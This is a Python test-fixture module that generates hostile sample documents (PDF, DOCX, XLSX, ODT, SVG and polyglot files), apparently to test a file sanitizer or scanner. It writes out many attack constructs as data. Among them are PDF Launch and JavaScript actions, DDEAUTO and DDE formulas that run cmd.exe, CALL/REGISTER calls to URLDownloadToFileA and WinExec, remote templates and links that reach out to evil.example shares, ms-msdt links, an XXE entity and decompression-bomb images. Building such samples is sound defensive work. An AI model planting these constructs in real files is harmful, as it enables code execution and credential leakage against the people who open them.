"""Originals that fetch or run something when they are opened, made by kinds times places."""

from __future__ import annotations

import gzip
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from itertools import product

import filemakers as make

Maker = Callable[[], bytes]
CONTENT = "word/document.xml"

PDF_ACTIONS = {
    "GoToR": "<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>",
    "GoToR to a share": r"<< /S /GoToR /F (\\\\evil.example\\s\\a.pdf) /D [0 /Fit] >>",
    "GoToE": "<< /S /GoToE /T << /R /C /N (a) >> >>",
    "ImportData": "<< /S /ImportData /F (a.fdf) >>",
    "SubmitForm": "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>",
    "Rendition": "<< /S /Rendition /OP 0 >>",
    "RichMediaExecute": "<< /S /RichMediaExecute >>",
    "Launch": "<< /S /Launch /F (calc.exe) >>",
    "JavaScript": r"<< /S /JavaScript /JS (app.alert\(1\)) >>",
    "Movie": "<< /S /Movie /T (a) >>",
    "Sound": "<< /S /Sound >>",
    "Thread of another file": "<< /S /Thread /F (other.pdf) /D 0 >>",
    "GoTo3DView": "<< /S /GoTo3DView >>",
    "a menu command": "<< /S /Named /N /SaveAs >>",
    "unknown action": "<< /S /Evil >>",
    "name with a code": "<< /S /GoTo#52 /F (other.pdf) >>",
}
PDF_PLACES: dict[str, Callable[[str], bytes]] = {
    "on opening": lambda action: make.pdf(catalogue=f"/OpenAction {action}"),
    "before printing": lambda action: make.pdf(catalogue=f"/AA << /WP {action} >>"),
    "in a link": lambda action: make.pdf(objects=[f"<< /Subtype /Link /A {action} >>"]),
    "behind another": lambda action: make.pdf(
        objects=[f"<< /A << /S /GoTo /D [10 0 R /Fit] /Next [ {action} ] >> >>"]
    ),
    "by reference": lambda action: make.pdf(catalogue="/OpenAction 100 0 R", objects=[action]),
    "in an object stream": lambda action: make.with_object_stream("/OpenAction 100 0 R", action),
}
LINKS = {
    "javascript": "javascript:alert(1)",
    "javascript in capitals": "JaVaScRiPt:alert(1)",
    "javascript with a tab": "java\tscript:alert(1)",
    "javascript behind blanks": "   javascript:alert(1)",
    "javascript in wide letters": "ｊavascript:alert(1)",
    "data": "data:text/html,x",
    "vbscript": "vbscript:x",
    "file": "file:///C:/Windows/System32/calc.exe",
    "file of a host": "file://evil.example/s/a",
    "share": "\\\\evil.example\\s\\a.doc",
    "share with strokes": "//evil.example/s/a",
    "mixed strokes": "\\/evil.example/s",
    "smb": "smb://evil.example/s",
    "disk": "C:\\Windows\\System32\\calc.exe",
    "help": "ms-its:a.chm::/a.htm",
    "search": "search-ms:query=a",
    "office": "ms-word:ofe|u|https://evil.example/a.docx",
    "diagnosis": "ms-msdt:/id PCWDiagnostic",
    "shell": "shell:startup",
    "telnet": "telnet://evil.example",
    "ftp": "ftp://evil.example/a",
    "ldap": "ldap://evil.example/a",
    "jar": "jar:https://evil.example/a!/",
}
FIELDS = {
    "INCLUDETEXT": 'INCLUDETEXT "https://evil.example/a.docx"',
    "INCLUDEPICTURE": 'INCLUDEPICTURE "https://evil.example/a.png" \\d',
    "LINK": 'LINK Excel.Sheet.12 "\\\\\\\\evil\\\\a.xlsx" "A1" \\a',
    "DDE": 'DDE Excel "C:\\\\a.xls" "A1"',
    "DDEAUTO": 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',
    "DATABASE": 'DATABASE \\d "C:\\\\a.mdb" \\s "SELECT 1"',
    "IMPORT": 'IMPORT "https://evil.example/a.png"',
    "INCLUDE": 'INCLUDE "\\\\\\\\evil\\\\a.doc"',
    "MACROBUTTON": "MACROBUTTON Evil bấm vào đây",
    "EMBED": "EMBED Package",
    "RD": 'RD "https://evil.example/a.docx"',
    "small letters": 'includetext "a.docx"',
    "QUOTE of codes": "QUOTE 68 68 69 65 85 84 79",
    "HYPERLINK to a program": 'HYPERLINK "file:///C:/Windows/calc.exe"',
    "HYPERLINK of a script": 'HYPERLINK "javascript:alert(1)"',
}


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def in_body(xml: str) -> bytes:
    """A DOCX with XML of the test's own after its last paragraph."""
    return make.replaced(make.docx(), CONTENT, "</w:body>", f"{xml}</w:body>")


def _mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _said(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{_escaped(text)}</w:instrText></w:r>'


def simple_field(text: str) -> bytes:
    """A DOCX with a field in one element."""
    return in_body(f'<w:p><w:fldSimple w:instr="{_escaped(text)}"/></w:p>')


def field_of_runs(text: str, pieces: int = 1, inside: str = "") -> bytes:
    """A DOCX with a field in marks, its instruction cut into pieces."""
    length = -(-len(text) // pieces)
    cut = [text[at : at + length] for at in range(0, len(text), length)]
    words = _mark("begin") + "".join(map(_said, cut)) + _mark("separate") + _mark("end")
    if inside:
        words = _mark("begin") + _said(inside) + words + _mark("separate") + _mark("end")
    return in_body(f"<w:p>{words}</w:p>")


FIELD_PLACES: dict[str, Callable[[str], bytes]] = {
    "simple": simple_field,
    "in marks": field_of_runs,
    "in pieces": lambda text: field_of_runs(text, 5),
    "inside another": lambda text: field_of_runs(text, 1, "IF 1 = 1 "),
}
RELATIONS = {
    "image": "\\\\evil.example\\s\\a.png",
    "video": "https://evil.example/a.mp4",
    "audio": "https://evil.example/a.mp3",
    "attachedTemplate": "https://evil.example/a.dotm",
    "header": "https://evil.example/header.xml",
    "footer": "https://evil.example/footer.xml",
    "settings": "https://evil.example/settings.xml",
    "styles": "https://evil.example/styles.xml",
    "oleObject": "https://evil.example/a.rtf",
    "frame": "https://evil.example/",
    "subDocument": "file:///a.docx",
    "aFChunk": "https://evil.example/a.html",
    "mailMergeSource": "file:///C:/a.mdb",
    "externalLinkPath": "https://evil.example/a.xlsx",
    "font": "https://evil.example/a.odttf",
    "unknownKind": "https://evil.example/",
}
RELATION_PLACES = ("word/_rels/document.xml.rels", "word/_rels/header1.xml.rels")
FORMULAS = {
    "WEBSERVICE": 'WEBSERVICE("https://evil.example/"&amp;A1)',
    "WEBSERVICE of later Excel": '_xlfn.WEBSERVICE("https://evil.example/")',
    "IMAGE": '_xlfn.IMAGE("https://evil.example/a.png")',
    "RTD": 'RTD("evil",,"a")',
    "CALL": 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)',
    "REGISTER": 'REGISTER("kernel32","WinExec")',
    "EXEC": 'EXEC("calc.exe")',
    "a program": "cmd|'/c calc'!A1",
    "a program behind a plus": "+cmd|' /C calc'!A0",
    "SQL": 'SQL.REQUEST("DSN=a","","SELECT 1")',
    "a cube": 'CUBEVALUE("a","b")',
    "a link to a program": 'HYPERLINK("file:///C:/calc.exe","bấm")',
    "a link of a script": 'HYPERLINK( "javascript:alert(1)","bấm")',
    "a link in pieces": 'HYPERLINK("file" &amp; "://evil.example/a.exe","bấm")',
    "Python": '_xlfn._xlws.PY("a.py",1)',
    "a translation": 'TRANSLATE(A1,"vi","en")',
    "another workbook of a share": "'\\\\evil.example\\s\\[a.xlsx]S'!A1",
    "another workbook of a host": "'https://evil.example/[a.xlsx]S'!A1",
    "another table": "'file:///C:/a.ods'#$S.A1",
}
FORMULA_PLACES = {
    "a cell": ("xl/worksheets/sheet1.xml", "<f>{}</f>"),
    "a name": ("xl/workbook.xml", "<definedName name='a'>{}</definedName>"),
    "a rule": ("xl/worksheets/sheet1.xml", "<formula1>{}</formula1>"),
}
WORD_XML = {
    "mail merge": "<w:mailMerge/>",
    "another file": '<w:altChunk r:id="rId99"/>',
    "film of a site": '<wp15:webVideoPr xmlns:wp15="urn:v" embeddedHtml="&lt;iframe&gt;"/>',
    "old picture": '<v:imagedata xmlns:v="urn:v" src="https://evil.example/a.png"/>',
    "old picture of a share": '<v:imagedata xmlns:v="urn:v" src="\\\\evil\\a.png"/>',
    "old fill": '<v:fill xmlns:v="urn:v" src="http://evil.example/a.png"/>',
    "old shape": '<v:shape xmlns:v="urn:v" href="file:///C:/calc.exe"/>',
    "action": '<a:hlinkClick xmlns:a="urn:a" action="ppaction://program"/>',
    "object": '<o:OLEObject xmlns:o="urn:o"/>',
}
WORD_PARTS: dict[str, dict[str, bytes | str]] = {
    "web extension": {"word/webextensions/webextension1.xml": "<a/>"},
    "task pane": {"word/webextensions/taskpanes.xml": "<a/>"},
    "buttons": {"customUI/customUI14.xml": "<customUI/>"},
    "script picture": {"word/media/a.svg": "<svg><script>alert(1)</script></svg>"},
    "fetching picture": {"word/media/a.svg": '<svg><image href="https://evil.example/"/></svg>'},
    "macro": {"word/vbaProject.bin": b"x"},
    "control": {"word/activeX/activeX1.xml": "<a/>"},
    **{
        f"program {name}": {f"word/media/{name}": content}
        for name, content in {
            "a.png": b"MZ\x90\0" + bytes(90), "b.bin": b"\x7fELF" + bytes(90),
            "c.dat": b"#!/bin/sh\n", "d.exe": b"x", "e.js": b"x", "f.vbs": b"x", "g.lnk": b"x",
            "h.hta": b"x", "i.ps1": b"x", "j.bat": b"x", "k.scr": b"x", "l.url": b"x",
        }.items()
    },
}  # fmt: skip
EXCEL_PARTS: dict[str, dict[str, bytes | str]] = {
    "connection": {"xl/connections.xml": "<connections><connection id='1'/></connections>"},
    "other workbook": {"xl/externalLinks/externalLink1.xml": "<a><externalBook/></a>"},
    "query": {"xl/queryTables/queryTable1.xml": "<queryTable/>"},
    "mashup": {"customXml/item1.xml": "<DataMashup>x</DataMashup>"},
    "pivot from outside": {"xl/pivotCache/a.xml": "<a><cacheSource type='external'/></a>"},
    "link of dde": {"xl/externalLinks/externalLink1.xml": "<a><ddeLink/></a>"},
    "macro sheet": {"xl/macrosheets/sheet1.xml": "<a/>"},
    "buttons": {"customUI/customUI.xml": "<customUI/>"},
    "database": {"xl/model/item.data": b"x"},
    "programs of a service": {"xl/python.xml": "<python/>"},
}
ODT_XML = {
    "remote picture": '<draw:image xlink:href="https://evil.example/a.png"/>',
    "picture of a share": '<draw:image xlink:href="\\\\evil\\a.png"/>',
    "picture of the disk": '<draw:image xlink:href="file:///etc/a.png"/>',
    "picture above": '<draw:image xlink:href="../../a.png"/>',
    "remote template": '<meta:template xlink:href="https://evil.example/a.ott"/>',
    "template of a share": '<meta:template xlink:href="file://evil.example/a.ott"/>',
    "reload": '<meta:auto-reload xlink:href="https://evil.example/" meta:delay="PT0S"/>',
    "frame": '<draw:floating-frame xlink:href="https://evil.example/"/>',
    "section": '<text:section-source xlink:href="https://evil.example/a.odt"/>',
    "object": '<draw:object xlink:href="https://evil.example/"/>',
    "plugin": '<draw:plugin xlink:href="https://evil.example/"/>',
    "dde": "<text:dde-connection-decl/>",
    "event": "<script:event-listener/>",
    "form": '<form:form xlink:href="https://evil.example/"/>',
    "font": '<svg:font-face-uri xlink:href="https://evil.example/a.ttf"/>',
    "database": '<form:connection-resource xlink:href="a"/>',
    "words of a database": '<text:database-display text:table-name="b"/>',
    "macro in the text": '<text:execute-macro text:name="Evil"/>',
}
ODT_PARTS: dict[str, dict[str, bytes | str]] = {
    "dialogue": {"Dialogs/Standard/Dialog1.xml": "<a/>"},
    "part without a suffix": {"Object 1/content": '<a xmlns:s="urn:s"><s:event-listener/></a>'},
    "entity in the metadata": {
        "manifest.rdf": '<!DOCTYPE a [<!ENTITY x SYSTEM "https://evil.example/">]><a>&x;</a>'
    },
    "command of a tool bar": {
        "Configurations2/a.xml": '<a xmlns:x="urn:x" x:href="vnd.sun.star.script:Evil"/>'
    },
}
DRAWINGS = {
    "handler": '<g onload="alert(1)"/>',
    "page inside": '<foreignObject><iframe src="https://evil.example/"/></foreignObject>',
    "style of a host": "<style>@import 'https://evil.example/a.css';</style>",
    "fill of a host": '<rect style="fill:url(https://evil.example/a.svg#b)"/>',
    "quoted fill of a host": "<rect fill=\"url( 'https://evil.example/a.svg#b')\"/>",
    "shape of a host": '<use xlink:href="https://evil.example/a.svg#a"/>',
    "shape of a base": '<g xml:base="https://evil.example/"><use href="#a"/></g>',
    "picture of a host": '<image href="//evil.example/a.png"/>',
    "page as data": '<image href="data:image/svg+xml,&lt;svg/&gt;"/>',
    "handler set later": '<set attributeName="onmouseover" to="alert(1)"/>',
    "address set later": '<a><animate attributeName="href" to="javascript:alert(1)"/></a>',
    "link of a script": '<a xlink:href="javascript:alert(1)"><rect/></a>',
}
RICH_VALUES = {
    "picture of a cell": '<webImageSrd xmlns:r="urn:r"><address r:id="r1"/></webImageSrd>',
    "data of a service": '<rvStructures><s t="_linkedentity2"/></rvStructures>',
    "picture of a service": '<rvStructures><s t="_webimage"/></rvStructures>',
    "page written on saving": '<webPublishItem destinationFile="\\\\evil\\a.htm"/>',
    "button with a macro": '<a xmlns:x="urn:x"><x:sp macro="[0]!Evil"/></a>',
    "button that reads a share": "<formControlPr fmlaLink=\"'\\\\evil\\[a.xlsx]S'!A1\"/>",
}
UNSAID_RELATIONS = {
    "a host": "https://evil.example/a.png",
    "a share": "//evil.example/s/a.png",
    "a share in other strokes": "\\\\evil.example\\s\\a.png",
}
"""Targets of relations that do not say that they lead outside."""


def drawing(xml: str) -> str:
    """An SVG file."""
    spaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f"<svg {spaces}>{xml}</svg>"


PDF_PICTURES = {
    kind: f"<< /Subtype /Image /Width 60000 /Height 60000 /Filter /{kind} /Length 1 >>\n"
    "stream\nx\nendstream"
    for kind in ("JBIG2Decode", "JPXDecode", "CCITTFaxDecode", "FlateDecode")
}
"""Pictures of a few bytes that say they have thousands of millions of points."""


def _odt(xml: str) -> bytes:
    namespaces = {name: f"urn:{name}" for name in ("meta", "form", "svg", "draw", "script")}
    added = "".join(f' xmlns:{name}="{uri}"' for name, uri in namespaces.items())
    return make.odt(more={
        "styles.xml": f'<a xmlns:xlink="urn:xlink" xmlns:text="urn:text"{added}>{xml}</a>'
    })  # fmt: skip


def _word_linking(kind: str, target: str, place: str = RELATION_PLACES[0]) -> bytes:
    return make.changed(make.docx(), {place: make.relation(kind, target)})


def _workbook(part: str, xml: str) -> bytes:
    return make.changed(make.xlsx(), {part: f"<a>{xml}</a>"})


def _word_with(xml: str) -> bytes:
    comments = f'<a xmlns:w="urn:w" xmlns:r="urn:r">{xml}</a>'
    return make.changed(make.docx(), {"word/comments.xml": comments})


def list_hostile() -> Iterator[tuple[str, str, Maker]]:
    """The name, the suffix and the maker of every hostile original."""
    yield from _list_of_pdf()
    yield from _list_of_word()
    for (what, formula), (where, (part, xml)) in product(FORMULAS.items(), FORMULA_PLACES.items()):
        yield f"xlsx: {what} in {where}", ".xlsx", partial(_workbook, part, xml.format(formula))
    for what, parts in EXCEL_PARTS.items():
        yield f"xlsx: {what}", ".xlsx", partial(_with_parts, make.xlsx, parts)
    for what, link in LINKS.items():
        xml = f'<text:a xlink:href="{_escaped(link)}">x</text:a>'
        yield f"odt: link {what}", ".odt", partial(_odt, xml)
    for what, xml in ODT_XML.items():
        yield f"odt: {what}", ".odt", partial(_odt, xml)
    for what, parts in ODT_PARTS.items():
        yield f"odt: {what}", ".odt", partial(make.odt, "", parts)
    for what, xml in RICH_VALUES.items():
        yield f"xlsx: {what}", ".xlsx", partial(_with_parts, make.xlsx, {"xl/a.xml": xml})
    for what, xml in DRAWINGS.items():
        parts = {"media/a.svg": drawing(xml)}
        yield f"docx: drawing with {what}", ".docx", partial(_with_parts, make.docx, parts)
        yield f"odt: drawing with {what}", ".odt", partial(make.odt, "", parts)
    packed = {"media/a.svgz": gzip.compress(drawing("").encode())}
    yield "docx: packed drawing", ".docx", partial(_with_parts, make.docx, packed)
    yield from _list_of_two_kinds()


def _list_of_two_kinds() -> Iterator[tuple[str, str, Maker]]:
    """Files that are archives too, and archives with two parts of one name."""
    hidden = make.zipped({"evil.js": "alert(1)"})
    yield "pdf: an archive too", ".pdf", lambda: make.pdf() + hidden + b"%%EOF"
    yield "png: an archive too", ".png", lambda: make.picture("PNG") + hidden
    yield "jpeg: an archive too", ".jpg", lambda: make.picture("JPEG") + hidden
    yield "tiff: an archive too", ".tif", lambda: make.picture("TIFF") + hidden
    for name in (
        "word/DOCUMENT.xml",
        "word/document.xml.",
        "word/document.xml ",
        "word/ｄocument.xml",
    ):
        twin: dict[str, bytes | str] = {name: "<a/>"}
        yield f"docx: twin {name!r}", ".docx", partial(_with_parts, make.docx, twin)
    twins: dict[str, bytes | str] = {"word/media/\u1ee7.png": "x", "word/media/u\u0309.png": "x"}
    yield "docx: twins of two forms", ".docx", partial(_with_parts, make.docx, twins)


def _with_parts(honest: Maker, parts: Mapping[str, bytes | str]) -> bytes:
    return make.changed(honest(), parts)


def _list_of_pdf() -> Iterator[tuple[str, str, Maker]]:
    for (what, action), (where, made) in product(PDF_ACTIONS.items(), PDF_PLACES.items()):
        yield f"pdf: {what} {where}", ".pdf", partial(made, action)
    for what, link in LINKS.items():
        written = link.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        if written.isascii():
            action = f"<< /S /URI /URI ({written}) >>"
            yield f"pdf: link {what}", ".pdf", partial(make.pdf, objects=[action])
    for what, shown in PDF_PICTURES.items():
        yield f"pdf: endless picture of {what}", ".pdf", partial(make.pdf, objects=[shown])
    named = "<< /Type /Filespec /FS /URL /F (https://evil.example/x.pdf) >>"
    yield "pdf: file of a host", ".pdf", partial(make.pdf, catalogue=f"/AF [{named}]")


def _list_of_word() -> Iterator[tuple[str, str, Maker]]:
    for what, link in LINKS.items():
        yield f"docx: link {what}", ".docx", partial(_word_linking, "hyperlink", _escaped(link))
    for (what, text), (where, made) in product(FIELDS.items(), FIELD_PLACES.items()):
        yield f"docx: field {what} {where}", ".docx", partial(made, text)
    for (kind, target), place in product(RELATIONS.items(), RELATION_PLACES):
        linked = partial(_word_linking, kind, target, place)
        yield f"docx: {kind} from {place}", ".docx", linked
    for what, xml in WORD_XML.items():
        yield f"docx: {what}", ".docx", partial(_word_with, xml)
    for what, target in UNSAID_RELATIONS.items():
        for mode in ("Internal", ""):
            list_of = make.relation("image", target, mode).replace(' TargetMode=""', "")
            unsaid = {RELATION_PLACES[0]: list_of}
            name = f"docx: {what} said to be {mode or 'nowhere'}"
            yield name, ".docx", partial(_with_parts, make.docx, unsaid)
    for what, parts in WORD_PARTS.items():
        yield f"docx: {what}", ".docx", partial(_with_parts, make.docx, parts)
